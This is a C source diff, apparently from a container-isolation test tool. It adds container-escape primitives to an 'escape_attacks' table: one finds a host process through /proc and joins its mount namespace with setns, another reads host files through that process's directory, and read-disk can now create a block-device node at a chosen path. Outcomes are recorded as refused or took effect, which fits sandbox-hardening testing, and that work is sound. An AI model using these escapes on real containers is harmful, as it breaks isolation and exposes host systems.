@@ -117,7 +117,7 @@ static int first_disk(unsigned int *major_number, unsigned int *minor_number, ch
 	return found;
 }
 
-/* By a node of its own, where the container has none. */
+/* read-disk [PATH]: by a node of its own at PATH, or where the container has none. */
 static int read_disk(int argc, char **argv)
 {
 	unsigned int major_number, minor_number;
@@ -125,11 +125,12 @@ static int read_disk(int argc, char **argv)
 	struct stat status;
 	int fd, made, outcome;
 
-	(void)argc;
-	(void)argv;
 	if (!first_disk(&major_number, &minor_number, name, sizeof(name)))
 		return impossible("no disk");
-	snprintf(path, sizeof(path), "/dev/%s", name);
+	if (argc > 0)
+		snprintf(path, sizeof(path), "%s", argv[0]);
+	else
+		snprintf(path, sizeof(path), "/dev/%s", name);
 	made = stat(path, &status) < 0;
 	if (made && mknod(path, S_IFBLK | 0600, makedev(major_number, minor_number)) < 0)
 		return refused("mknod");
@@ -204,19 +205,51 @@ static int mount_by_descriptor(int argc, char **argv)
 	return outcome;
 }
 
-/* enter-namespace PATH: the next call would run where PATH leads. */
-static int enter_namespace(int argc, char **argv)
+/* A process outside of this container; the host's first may have rights that nobody else can reach past. */
+static int open_outside(const char *below_process, int flags)
+{
+	DIR *processes = opendir("/proc");
+	struct stat own, other;
+	struct dirent *entry;
+	int fd = -1;
+
+	if (!processes || stat("/proc/self/ns/mnt", &own) < 0)
+		return -1;
+	while (fd < 0 && (entry = readdir(processes))) {
+		char path[512];
+
+		if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
+			continue;
+		snprintf(path, sizeof(path), "/proc/%.20s/ns/mnt", entry->d_name);
+		if (stat(path, &other) < 0 || other.st_ino == own.st_ino)
+			continue;
+		snprintf(path, sizeof(path), "/proc/%.20s/%.128s", entry->d_name, below_process);
+		fd = open(path, flags | O_CLOEXEC);
+	}
+	closedir(processes);
+	return fd;
+}
+
+/* The next call would run where the mounts of the host are. */
+static int enter_host_namespace(int argc, char **argv)
+{
+	int fd = open_outside("ns/mnt", O_RDONLY);
+
+	(void)argc;
+	(void)argv;
+	if (fd < 0)
+		return refused("open");
+	return setns(fd, CLONE_NEWNS) < 0 ? refused("setns") : took_effect();
+}
+
+static int read_host_root(int argc, char **argv)
 {
 	int fd;
 
 	if (argc != 1)
-		return misused("enter-namespace PATH");
-	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
-	if (fd < 0)
-		return refused("open");
-	if (setns(fd, 0) < 0)
-		return refused("setns");
-	return took_effect();
+		return misused("read-host-root PATH");
+	fd = open_outside(argv[0], O_RDONLY);
+	return fd < 0 ? refused("open") : read_some(fd);
 }
 
 static int new_user_namespace(int argc, char **argv)
@@ -323,7 +356,8 @@ const struct attack escape_attacks[] = {
 	{ "make-disk-node", make_disk_node },
 	{ "mount-disk", mount_disk },
 	{ "mount-by-descriptor", mount_by_descriptor },
-	{ "enter-namespace", enter_namespace },
+	{ "enter-host-namespace", enter_host_namespace },
+	{ "read-host-root", read_host_root },
 	{ "new-user-namespace", new_user_namespace },
 	{ "clone-user-namespace", clone_user_namespace },
 	{ "open-by-handle", open_by_handle },
